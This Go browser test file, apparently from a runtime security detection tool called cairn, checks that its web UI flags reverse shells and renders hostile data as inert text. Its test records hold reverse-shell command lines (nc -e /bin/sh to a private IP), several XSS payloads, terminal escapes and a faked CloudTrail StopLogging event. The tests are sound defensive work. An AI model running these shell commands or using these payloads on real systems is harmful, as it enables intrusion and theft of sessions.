package main

// Browser tests of the web UI: cairn serve in-process, driven by a
// headless Chromium through chromedp. They check what only a browser
// shows: the login link's script, the live feed's EventSource, the
// forms, and that hostile event data stays text under the real HTML
// parser and Content-Security-Policy. Without a Chromium they skip (CI
// installs one).

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// browserTimeout bounds every chromedp run; the slow 2-core CI machine
// needs seconds, not a minute, for any one step.
const browserTimeout = 60 * time.Second

// chromiumPath returns the first Chromium or Chrome on PATH, or "".
func chromiumPath() string {
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	return ""
}

// browser is one headless Chromium tab with what it reported: console
// messages (including CSP violations, which Chromium logs) and the
// JavaScript dialogs that opened.
type browser struct {
	t   *testing.T
	ctx context.Context

	mu      sync.Mutex
	console []chromedp.ConsoleMessage
	dialogs []string
}

// newBrowser starts Chromium for the test, or skips the test when there
// is none. Start the server first: cleanups run last-registered first,
// so the browser (and its live stream) closes before the server stops.
func newBrowser(t *testing.T) *browser {
	t.Helper()
	path := chromiumPath()
	if path == "" {
		t.Log("no chromium, chromium-browser or google-chrome on PATH (CI installs chromium); skipping the browser test")
		t.Skip("no Chromium found on PATH (looked for chromium, chromium-browser, google-chrome)")
	}
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(path),
		chromedp.Headless,
		chromedp.NoSandbox, // CI runs as root
		chromedp.DisableGPU,
		chromedp.WindowSize(1280, 900),
	)
	// The whole browser lives at most this long; each step has its own
	// browserTimeout on top (see run).
	life, cancelLife := context.WithTimeout(context.Background(), 5*time.Minute)
	actx, cancelAlloc := chromedp.NewExecAllocator(life, opts...)
	ctx, cancelTab := chromedp.NewContext(actx)
	t.Cleanup(func() {
		cancelTab()
		cancelAlloc()
		cancelLife()
	})
	// The first run starts the browser and binds it to ctx, so it cannot
	// take the step timeout itself: wait for it here instead.
	started := make(chan error, 1)
	go func() { started <- chromedp.Do(ctx) }()
	select {
	case err := <-started:
		if err != nil {
			t.Fatalf("start %s: %v", path, err)
		}
	case <-time.After(browserTimeout):
		cancelLife()
		t.Fatalf("%s did not start within %s", path, browserTimeout)
	}
	b := &browser{t: t, ctx: ctx}
	messages := chromedp.Console(ctx)
	dialogs := chromedp.Events(ctx, page.JavascriptDialogOpening)
	go func() {
		for m, err := range messages {
			if err != nil {
				return
			}
			b.mu.Lock()
			b.console = append(b.console, m)
			b.mu.Unlock()
		}
	}()
	go func() {
		for ev, err := range dialogs {
			if err != nil {
				return
			}
			b.mu.Lock()
			b.dialogs = append(b.dialogs, fmt.Sprintf("%s: %q", ev.Type, ev.Message))
			b.mu.Unlock()
			// A dialog blocks the page: dismiss it so the test goes on
			// and reports it rather than hanging.
			chromedp.Call(ctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: false})
		}
	}()
	return b
}

// run runs the actions with the step timeout and fails the test on an
// error.
func (b *browser) run(what string, actions ...chromedp.Action[chromedp.Void]) {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, browserTimeout)
	defer cancel()
	if err := chromedp.Do(ctx, actions...); err != nil {
		b.t.Fatalf("%s: %v", what, err)
	}
}

// get runs one action that returns a value.
func get[T any](b *browser, what string, a chromedp.Action[T]) T {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, browserTimeout)
	defer cancel()
	v, err := chromedp.Run(ctx, a)
	if err != nil {
		b.t.Fatalf("%s: %v", what, err)
	}
	return v
}

// js evaluates a JavaScript expression in the page.
func js[T any](b *browser, expr string) T {
	b.t.Helper()
	return get(b, "evaluate "+expr, chromedp.Evaluate[T](expr))
}

// loadAfter runs trigger (a click, a submit) and waits for the page it
// leads to to load.
func (b *browser) loadAfter(what string, trigger ...chromedp.Action[chromedp.Void]) {
	b.t.Helper()
	get(b, what, chromedp.WaitEvent(page.LoadEventFired, nil, chromedp.Steps(trigger...)))
}

// clear empties a text field, so that typing replaces what it held.
func clear(sel string) chromedp.Action[chromedp.Void] {
	return chromedp.Evaluate[chromedp.Void](`document.querySelector(` + strconv.Quote(sel) + `).value = ""`)
}

// waitFor waits until the JavaScript condition is true; unlike
// chromedp.Poll it keeps trying across navigations.
func (b *browser) waitFor(what, cond string) {
	b.t.Helper()
	deadline := time.Now().Add(browserTimeout)
	var last error
	for time.Now().Before(deadline) {
		ctx, cancel := context.WithTimeout(b.ctx, 5*time.Second)
		ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](cond))
		cancel()
		if err == nil && ok {
			return
		}
		last = err
		select {
		case <-b.ctx.Done():
			b.t.Fatalf("%s: %v", what, b.ctx.Err())
		case <-time.After(50 * time.Millisecond):
		}
	}
	ctx, cancel := context.WithTimeout(b.ctx, 5*time.Second)
	defer cancel()
	state, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`location.href + " " + document.body.innerText.slice(0, 300)`))
	b.logConsole()
	b.t.Fatalf("%s: %s still false after %s (last error %v); page %q", what, cond, browserTimeout, last, state)
}

// screenshot saves a full-page PNG into the artifacts directory.
func (b *browser) screenshot(name string) {
	b.t.Helper()
	png := get(b, "screenshot "+name, chromedp.FullScreenshot(100))
	dir := artifactsDir(b.t)
	p := filepath.Join(dir, b.t.Name()+"-"+name+".png")
	if err := os.WriteFile(p, png, 0o644); err != nil {
		b.t.Fatal(err)
	}
	b.t.Logf("screenshot: %s", p)
}

// logConsole logs what the pages wrote to the console (CSP violations
// among them) and returns the messages.
func (b *browser) logConsole() []chromedp.ConsoleMessage {
	b.mu.Lock()
	defer b.mu.Unlock()
	for _, m := range b.console {
		b.t.Logf("console %s [%s] %s:%d: %q", m.Type, m.Source, m.URL, m.Line+1, m.Text)
	}
	return append([]chromedp.ConsoleMessage(nil), b.console...)
}

func (b *browser) dialogsOpened() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return append([]string(nil), b.dialogs...)
}

// artifactsDir is $CAIRN_TEST_ARTIFACTS, or bin/test-artifacts/browser
// under the repository root (bin/ is ignored by git).
func artifactsDir(t *testing.T) string {
	t.Helper()
	dir := os.Getenv("CAIRN_TEST_ARTIFACTS")
	if dir == "" {
		root, err := filepath.Abs(".")
		if err != nil {
			t.Fatal(err)
		}
		for {
			if _, err := os.Stat(filepath.Join(root, "go.mod")); err == nil {
				break
			}
			up := filepath.Dir(root)
			if up == root {
				t.Fatal("no go.mod above the test's directory")
			}
			root = up
		}
		dir = filepath.Join(root, "bin", "test-artifacts", "browser")
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

// loginLink returns the web UI login link of a first start. serve prints
// the link after its listening line, which startServe stops reading at,
// so it is rebuilt from the admin token printed before it: the same
// http://ADDR/login#token=SECRET.
func loginLink(t *testing.T, s *served) (link, admin string) {
	t.Helper()
	if l := printedSecret(s.printed, "shown once): "+s.url+"/login#token="); l != "" {
		return s.url + "/login#token=" + l, l
	}
	admin = printedSecret(s.printed, "admin token (shown once): ")
	if !strings.HasPrefix(admin, "cairn_") {
		t.Fatalf("first start printed no admin token: %q", s.printed)
	}
	return s.url + "/login#token=" + url.QueryEscape(admin), admin
}

// logIn opens the login link and waits for the feed; the link's script
// fills and submits the form, and the session cookie is HttpOnly.
func (b *browser) logIn(link string) {
	b.t.Helper()
	b.run("open the login link", chromedp.Navigate(link))
	b.waitFor("the login link leads to the feed", `location.pathname === "/" && document.querySelector("table#feed") !== null && document.readyState === "complete"`)
	if c := js[string](b, `document.cookie`); strings.Contains(c, "cairn_session") {
		b.t.Errorf("the session cookie is readable by script: %q", c)
	}
	if h := js[string](b, `location.hash`); h != "" {
		b.t.Errorf("the token stayed in the address: %q", h)
	}
}

// serveForBrowser starts cairn serve on a fresh SQLite store with the
// demo data, then the browser, and logs in.
func serveForBrowser(t *testing.T) (*served, *browser, string) {
	t.Helper()
	if chromiumPath() == "" { // skip before spending time on the demo
		newBrowser(t)
	}
	s := startServe(t, "--db", filepath.Join(t.TempDir(), "ui.db"), "--demo")
	link, admin := loginLink(t, s)
	b := newBrowser(t)
	b.logIn(link)
	return s, b, admin
}

var backtestRE = regexp.MustCompile(`suppressed (\d+) of (\d+) past detections`)

func TestBrowserReverseShell(t *testing.T) {
	_, b, _ := serveForBrowser(t)

	// A bad filter shows its error, and no feed.
	b.loadAfter("search a bad filter", clear("#q"), chromedp.SendKeys(chromedp.CSS("#q"), "proc.name = = x\n"))
	msg := get(b, "read the filter error", chromedp.Text(chromedp.CSS("p#filter-error")))
	if strings.TrimSpace(msg) == "" {
		t.Error("the filter error is empty")
	}
	t.Logf("bad filter: %s", msg)

	b.loadAfter("search the payments namespace", clear("#q"), chromedp.SendKeys(chromedp.CSS("#q"), "k8s.ns.name=payments\n"))
	if q := js[string](b, `new URLSearchParams(location.search).get("q")`); q != "k8s.ns.name=payments" {
		t.Fatalf("feed query = %q", q)
	}
	if js[bool](b, `document.querySelector("p#filter-error") !== null`) {
		t.Fatalf("a good filter shows an error: %s", js[string](b, `document.querySelector("p#filter-error").textContent`))
	}
	rules := js[[]string](b, `Array.from(document.querySelectorAll("table#feed tr.row td:nth-child(3) a")).map(a => a.textContent)`)
	if !contains(rules, "Reverse Shell") {
		t.Fatalf("the payments feed has no Reverse Shell row: %q", rules)
	}
	where := js[[]string](b, `Array.from(document.querySelectorAll("table#feed tr.row td.where")).map(td => td.textContent)`)
	for _, w := range where {
		if !strings.HasPrefix(w, "payments/") {
			t.Errorf("a row of the payments feed is in %q", w)
		}
	}
	b.screenshot("feed")

	b.loadAfter("open the Reverse Shell detection", chromedp.Click(chromedp.JSPath(
		`Array.from(document.querySelectorAll("table#feed tr.row td a")).find(a => a.textContent === "Reverse Shell")`)))
	b.waitFor("the detection page", `document.querySelector("section#tree ul.tree") !== null`)
	if !strings.HasPrefix(js[string](b, `location.pathname`), "/detections/") {
		t.Fatalf("the click led to %s", js[string](b, `location.href`))
	}
	// The chain from the root to the flagged process, root first.
	chain := js[[]string](b, `(() => {
		const out = [];
		for (let n = document.querySelector("li.node.flagged"); n; n = n.parentElement.closest("li.node")) {
			out.unshift(n.querySelector(":scope > details > summary .cmd").textContent.trim());
		}
		return out;
	})()`)
	if n := js[int](b, `document.querySelectorAll("li.node.flagged").length`); n != 1 {
		t.Errorf("%d flagged processes, want 1", n)
	}
	t.Logf("process chain: %q", chain)
	// java started sh -c "nc ...", which started the flagged nc.
	if len(chain) < 3 || inOrder(chain[len(chain)-3:], "java ", "sh -c ", "nc ") != nil {
		t.Errorf("process chain %q, want ... → java → sh -c → nc (flagged)", chain)
	}
	if out := js[string](b, `document.getElementById("output").textContent`); !strings.Contains(out, "Reverse shell started") {
		t.Errorf("output = %q", out)
	}
	b.screenshot("detection")

	// Exception: the default fields are ticked; backtest, then save.
	ticked := js[[]string](b, `Array.from(document.querySelectorAll("section#exception input[name=field]:checked")).map(c => c.value)`)
	if len(ticked) == 0 {
		t.Fatal("no exception field is ticked by default")
	}
	t.Logf("default exception fields: %q", ticked)
	b.loadAfter("backtest", chromedp.Click(chromedp.CSS(`section#exception button[value=preview]`)))
	bt := get(b, "read the backtest", chromedp.Text(chromedp.CSS("p#backtest")))
	m := backtestRE.FindStringSubmatch(bt)
	if m == nil {
		t.Fatalf("backtest text %q", bt)
	}
	suppressed, _ := strconv.Atoi(m[1])
	past, _ := strconv.Atoi(m[2])
	if suppressed < 1 || past < 1 || suppressed > past {
		t.Errorf("backtest: %d of %d, want at least 1 of at least 1", suppressed, past)
	}
	t.Logf("backtest: %s", bt)
	after := js[[]string](b, `Array.from(document.querySelectorAll("section#exception input[name=field]:checked")).map(c => c.value)`)
	if strings.Join(after, ",") != strings.Join(ticked, ",") {
		t.Errorf("after the backtest the ticked fields are %q, want %q", after, ticked)
	}
	b.screenshot("backtest")
	b.loadAfter("save the exception", chromedp.Click(chromedp.CSS("#save-exception")))
	saved := get(b, "read the saved note", chromedp.Text(chromedp.CSS("p#saved")))
	if !strings.Contains(saved, "Saved exception") || !strings.Contains(saved, fmt.Sprintf("suppressed %d of %d", suppressed, past)) {
		t.Errorf("saved = %q, want the backtest's %d of %d", saved, suppressed, past)
	}

	// Triage.
	b.loadAfter("save the triage",
		chromedp.SetValue(chromedp.CSS("#status-select"), "acknowledged"),
		clear("#assignee-input"),
		chromedp.SendKeys(chromedp.CSS("#assignee-input"), "ada"),
		chromedp.Click(chromedp.CSS(`section#triage button[type=submit]`)))
	if st := get(b, "read the status", chromedp.Text(chromedp.CSS("span#status"))); st != "acknowledged" {
		t.Errorf("status = %q, want acknowledged", st)
	}
	if a := get(b, "read the assignee", chromedp.Text(chromedp.CSS("b#assignee"))); a != "ada" {
		t.Errorf("assignee = %q, want ada", a)
	}
	if v := get(b, "read the select", chromedp.Value(chromedp.CSS("#status-select"))); v != "acknowledged" {
		t.Errorf("status select = %q after saving", v)
	}

	// Comment.
	const note = "Log4Shell via the checkout service; host isolated"
	b.loadAfter("comment",
		chromedp.SendKeys(chromedp.CSS(`section#comments textarea[name=text]`), note),
		chromedp.Click(chromedp.CSS(`section#comments form button[type=submit]`)))
	comments := js[[]string](b, `Array.from(document.querySelectorAll("section#comments .comment")).map(c => c.textContent)`)
	if len(comments) != 1 || !strings.Contains(comments[0], note) || !strings.Contains(comments[0], "admin") {
		t.Errorf("comments = %q, want one by admin with %q", comments, note)
	}

	for _, m := range b.logConsole() {
		if m.IsException() || strings.Contains(m.Text, "Content Security Policy") {
			t.Errorf("console %s: %s", m.Type, m.Text)
		}
	}
	if d := b.dialogsOpened(); len(d) > 0 {
		t.Errorf("dialogs opened: %q", d)
	}
}

func TestBrowserLive(t *testing.T) {
	s, b, admin := serveForBrowser(t)
	// The stream answers once its first poll has marked what exists:
	// load the feed again and wait for that answer, so that the new
	// detection cannot be taken for an old one.
	sctx, scancel := context.WithTimeout(b.ctx, browserTimeout)
	defer scancel()
	responses := chromedp.Events(sctx, network.ResponseReceived)
	b.run("open the feed", chromedp.Navigate(s.url+"/"), chromedp.WaitReady(chromedp.CSS("table#feed")))
	for ev, err := range responses {
		if err != nil {
			t.Fatalf("waiting for the live stream: %v", err)
		}
		if strings.Contains(ev.Response.URL, "/stream?") {
			if ev.Response.Status != 200 || !strings.HasPrefix(ev.Response.MimeType, "text/event-stream") {
				t.Fatalf("stream answered %d %s", ev.Response.Status, ev.Response.MimeType)
			}
			break
		}
	}
	scancel()
	before := js[int](b, `document.querySelectorAll("table#feed tr.row").length`)

	marker := fmt.Sprintf("10.77.%d.%d", time.Now().Nanosecond()%250, os.Getpid()%250)
	now := time.Now().UTC()
	rec := tetragonExec(fmt.Sprintf("live-%d", now.UnixNano()), 4242, "/usr/bin/nc", "-e /bin/sh "+marker+" 4444", nil, now)
	start := time.Now()
	code, body := s.call(t, "POST", "/api/v1/ingest", admin, rec+"\n")
	if code != 200 {
		t.Fatalf("ingest = %d %s", code, body)
	}
	var rep struct{ Accepted, Detections int }
	if err := json.Unmarshal([]byte(body), &rep); err != nil || rep.Accepted != 1 || rep.Detections < 1 {
		t.Fatalf("ingest report %s (%v), want 1 event and a detection", body, err)
	}
	ctx, cancel := context.WithTimeout(b.ctx, 5*time.Second)
	defer cancel()
	_, err := chromedp.Run(ctx, chromedp.Poll[bool](
		`Array.from(document.querySelectorAll("table#feed tr.row.fresh")).some(r => r.textContent.includes(`+strconv.Quote(marker)+`))`,
		chromedp.WithPollingInterval(20*time.Millisecond), chromedp.WithPollingTimeout(5*time.Second)))
	latency := time.Since(start)
	if err != nil {
		t.Fatalf("no live row with %s within 5 s: %v", marker, err)
	}
	t.Logf("live detection shown %s after the ingest request began", latency.Round(time.Millisecond))
	row := js[[]string](b, `Array.from(document.querySelector("table#feed tbody tr").cells).map(c => c.textContent)`)
	if len(row) != 7 || row[2] != "Reverse Shell" || row[1] != "critical" || !strings.Contains(row[3], marker) {
		t.Errorf("top row = %q, want the new critical Reverse Shell", row)
	}
	if href := js[string](b, `document.querySelector("table#feed tbody tr").dataset.href`); !strings.HasPrefix(href, "/detections/") {
		t.Errorf("new row links to %q", href)
	}
	if n := js[int](b, `document.querySelectorAll("table#feed tr.row").length`); n != before+1 {
		t.Errorf("%d rows after the live one, want %d", n, before+1)
	}
	if nav := js[int](b, `performance.getEntriesByType("navigation").length`); nav != 1 {
		t.Errorf("the page reloaded (%d navigations)", nav)
	}
	b.screenshot("live")
	b.logConsole()
}

// Hostile strings: markup, attribute breakouts, javascript: links,
// textarea breakouts and terminal escapes.
const (
	xssScript   = `<script>window.__xss=1</script>`
	xssImg      = `"><img src=x onerror="window.__xss=2">`
	xssSVG      = `</textarea><svg onload=window.__xss=3>`
	xssJSLink   = `javascript:window.__xss=4//`
	termEscapes = "\u001b[31mred\u001b]0;title\u0007"
)

func TestBrowserHostileData(t *testing.T) {
	s, b, admin := serveForBrowser(t)
	now := time.Now().UTC()
	pod := func(name, image string) map[string]any {
		return map[string]any{"namespace": "hostile", "name": name, "uid": "0000-hostile",
			"container": map[string]any{"id": "containerd://" + strings.Repeat("ab", 32), "name": "app",
				"image": map[string]any{"id": "sha256:" + strings.Repeat("cd", 32), "name": image}}}
	}
	recs := []string{
		tetragonExec(fmt.Sprintf("hostile-a-%d", now.UnixNano()), 31337, "/usr/bin/nc",
			"-e /bin/sh 10.6.6.6 4444 "+xssScript+" "+termEscapes+" "+xssSVG,
			pod(xssImg, "evil.example/"+xssSVG+":"+xssJSLink), now),
		tetragonExec(fmt.Sprintf("hostile-b-%d", now.UnixNano()), 31338, "/usr/bin/nc",
			"-e /bin/sh 10.6.6.7 4444 "+xssJSLink+" "+xssImg,
			pod(xssScript+termEscapes, xssJSLink+xssScript), now.Add(time.Second)),
	}
	code, body := s.call(t, "POST", "/api/v1/ingest", admin, strings.Join(recs, "\n")+"\n")
	if code != 200 {
		t.Fatalf("tetragon ingest = %d %s", code, body)
	}
	assertDetections(t, body, 2)
	code, body = s.call(t, "POST", "/api/v1/ingest", admin, cloudTrailStopLogging(now.Add(2*time.Second)))
	if code != 200 {
		t.Fatalf("cloudtrail ingest = %d %s", code, body)
	}
	assertDetections(t, body, 1)

	code, body = s.call(t, "GET", "/api/v1/detections?limit=1000", admin, "")
	if code != 200 {
		t.Fatalf("detections = %d %.300s", code, body)
	}
	var list struct {
		Detections []struct{ ID, Rule, Output string }
	}
	if err := json.Unmarshal([]byte(body), &list); err != nil {
		t.Fatal(err)
	}
	var hostile []string
	rules := map[string]bool{}
	for _, d := range list.Detections {
		if strings.Contains(d.Output, "__xss") {
			hostile = append(hostile, d.ID)
			rules[d.Rule] = true
		}
	}
	if len(hostile) < 3 || !rules["Reverse Shell"] || !rules["CloudTrail Logging Disabled or Changed"] {
		t.Fatalf("hostile detections %q of rules %v, want the two reverse shells and StopLogging", hostile, rules)
	}

	// Every page, and what its text must show literally.
	type check struct {
		path string
		sel  string   // the element whose text holds the payloads
		want []string // literal text it shows
	}
	checks := []check{
		{"/", "table#feed", []string{xssScript, xssImg}},
		{"/events", "table.list", []string{xssScript, xssJSLink}},
		{"/exceptions", "main", nil},
		{"/audit", "main", nil},
	}
	for _, id := range hostile {
		checks = append(checks, check{"/detections/" + id, "#output", []string{xssScript, xssImg}},
			check{"/detections/" + id, "section#raw pre", []string{"<script>", "__xss"}})
	}
	for i, c := range checks {
		b.run("open "+c.path, chromedp.Navigate(s.url+c.path), chromedp.WaitReady(chromedp.CSS(c.sel)))
		assertInert(t, b, c.path)
		text := js[string](b, `document.querySelector(`+strconv.Quote(c.sel)+`).textContent`)
		for _, w := range c.want {
			if !strings.Contains(text, w) {
				t.Errorf("%s %s does not show %q as text: %.300q", c.path, c.sel, w, text)
			}
		}
		if strings.HasPrefix(c.path, "/detections/") && c.sel == "#output" {
			b.screenshot(fmt.Sprintf("hostile-%d", i))
		}
	}
	// The detection pages also show the escapes' text, not terminal effects:
	// the ESC character is there as a character in the raw record.
	b.run("open the feed", chromedp.Navigate(s.url+"/"), chromedp.WaitReady(chromedp.CSS("table#feed")))
	b.screenshot("hostile-feed")

	// The exception form holds the values in attributes and text: save
	// one from a hostile detection, then check /exceptions and /audit.
	b.run("open a hostile reverse shell", chromedp.Navigate(s.url+"/detections/"+hostile[0]), chromedp.WaitReady(chromedp.CSS("section#exception")))
	if js[bool](b, `document.querySelector("section#exception button[value=preview]") !== null`) {
		b.run("tick every field", chromedp.Evaluate[chromedp.Void](`document.querySelectorAll("section#exception input[name=field]").forEach(c => c.checked = true)`))
		b.run("note", chromedp.SendKeys(chromedp.CSS("#ex-note"), xssSVG+xssImg))
		b.loadAfter("backtest the hostile exception", chromedp.Click(chromedp.CSS(`section#exception button[value=preview]`)))
		assertInert(t, b, "hostile backtest")
		b.loadAfter("save the hostile exception", chromedp.Click(chromedp.CSS("#save-exception")))
		assertInert(t, b, "hostile exception saved")
		if !js[bool](b, `document.querySelector("p#saved") !== null`) {
			t.Errorf("hostile exception not saved: %s", js[string](b, `document.querySelector("section#exception").textContent`))
		}
		b.loadAfter("comment with hostile text",
			chromedp.SendKeys(chromedp.CSS(`section#comments textarea[name=text]`), xssSVG+xssScript),
			chromedp.Click(chromedp.CSS(`section#comments form button[type=submit]`)))
		assertInert(t, b, "hostile comment")
		if c := js[string](b, `document.querySelector("section#comments .comment p").textContent`); c != xssSVG+xssScript {
			t.Errorf("comment shows %q", c)
		}
		for _, p := range []string{"/exceptions", "/audit"} {
			b.run("open "+p, chromedp.Navigate(s.url+p), chromedp.WaitReady(chromedp.CSS("main")))
			assertInert(t, b, p)
			// The audit log shows its detail as JSON, where < is \u003c.
			if text := js[string](b, `document.querySelector("main").textContent`); !strings.Contains(text, "svg onload=window.__xss=3") {
				t.Errorf("%s does not show the hostile note as text: %.300q", p, text)
			}
		}
	}

	msgs := b.logConsole()
	for _, m := range msgs {
		if strings.Contains(m.Text, "Content Security Policy") || m.IsException() {
			t.Errorf("a page tried to run or load something: %s", m)
		}
	}
	if d := b.dialogsOpened(); len(d) > 0 {
		t.Errorf("dialogs opened: %q", d)
	}
}

// assertInert checks that no payload ran or became markup on the page.
func assertInert(t *testing.T, b *browser, where string) {
	t.Helper()
	if v := js[string](b, `typeof window.__xss`); v != "undefined" {
		t.Errorf("%s: window.__xss is %s (%s)", where, v, js[string](b, `String(window.__xss)`))
	}
	// CSP would stop an inline script even if escaping failed, so look
	// for the injected markup itself.
	injected := js[[]string](b, `Array.from(document.querySelectorAll("img, svg, script:not([src]), [onerror], [onload], a[href^='javascript:' i]")).map(e => e.outerHTML.slice(0, 200))`)
	if len(injected) > 0 {
		t.Errorf("%s: injected markup in the page: %q", where, injected)
	}
	// Terminal escapes are shown escaped (\x1b), never as the raw
	// control characters.
	if js[bool](b, `/[\u001b\u0007]/.test(document.body.textContent)`) {
		t.Errorf("%s: the page holds a raw ESC or BEL character", where)
	}
	if d := b.dialogsOpened(); len(d) > 0 {
		t.Errorf("%s: dialogs opened: %q", where, d)
	}
}

func assertDetections(t *testing.T, body string, want int) {
	t.Helper()
	var rep struct{ Accepted, Rejected, Detections int }
	if err := json.Unmarshal([]byte(body), &rep); err != nil {
		t.Fatalf("ingest report %s: %v", body, err)
	}
	if rep.Rejected != 0 || rep.Detections < want {
		t.Fatalf("ingest report %s, want no rejects and %d detections", body, want)
	}
}

// tetragonExec is a Tetragon process_exec record; pod may be nil for a
// process on the host.
func tetragonExec(execID string, pid int, binary, args string, pod map[string]any, at time.Time) string {
	proc := map[string]any{"exec_id": execID, "pid": pid, "uid": 0, "cwd": "/", "binary": binary, "arguments": args,
		"flags": "execve", "start_time": at.Format(time.RFC3339Nano), "auid": 4294967295, "parent_exec_id": "parent-" + execID}
	if pod != nil {
		proc["pod"] = pod
		proc["docker"] = strings.Repeat("ab", 15) + "a"
	}
	return rawJSON(map[string]any{"process_exec": map[string]any{"process": proc}, "node_name": "node-hostile",
		"time": at.Format(time.RFC3339Nano)})
}

// cloudTrailStopLogging is a StopLogging call whose user agent, trail
// name and user carry the hostile strings.
func cloudTrailStopLogging(at time.Time) string {
	rec := map[string]any{
		"eventVersion": "1.08",
		"userIdentity": map[string]any{"type": "IAMUser", "principalId": "AIDAHOSTILE", "arn": "arn:aws:iam::111122223333:user/" + xssJSLink,
			"accountId": "111122223333", "accessKeyId": "AKIAHOSTILE", "userName": xssJSLink},
		"eventTime": at.Format("2006-01-02T15:04:05Z"), "eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging",
		"awsRegion": "us-east-1", "sourceIPAddress": "34.6.6.6", "userAgent": xssScript + termEscapes + xssImg,
		"requestParameters": map[string]any{"name": xssImg + xssSVG + xssScript + termEscapes},
		"responseElements":  nil, "requestID": "hostile-req", "eventID": fmt.Sprintf("00000000-0000-0000-0000-%012d", at.UnixNano()%1e12),
		"readOnly": false, "eventType": "AwsApiCall", "managementEvent": true, "recipientAccountId": "111122223333", "eventCategory": "Management",
	}
	return rawJSON(map[string]any{"Records": []any{rec}})
}

// rawJSON encodes v as the sensors do: <, > and & as themselves, not
// \u003c, so the raw record the UI shows holds the literal markup.
func rawJSON(v any) string {
	var b strings.Builder
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

// inOrder checks that some entries of chain start (after any directory)
// with each prefix, in this order.
func inOrder(chain []string, prefixes ...string) error {
	i := 0
	for _, c := range chain {
		if i < len(prefixes) && strings.HasPrefix(base(c), prefixes[i]) {
			i++
		}
	}
	if i < len(prefixes) {
		return fmt.Errorf("no %q after %q", prefixes[i], prefixes[:i])
	}
	return nil
}

// base drops the directory of a command line's program: /usr/bin/nc -e
// is nc -e.
func base(cmdline string) string {
	prog, rest, _ := strings.Cut(cmdline, " ")
	prog = filepath.Base(prog)
	if rest != "" {
		return prog + " " + rest
	}
	return prog
}

func contains(xs []string, x string) bool {
	for _, y := range xs {
		if y == x {
			return true
		}
	}
	return false
}
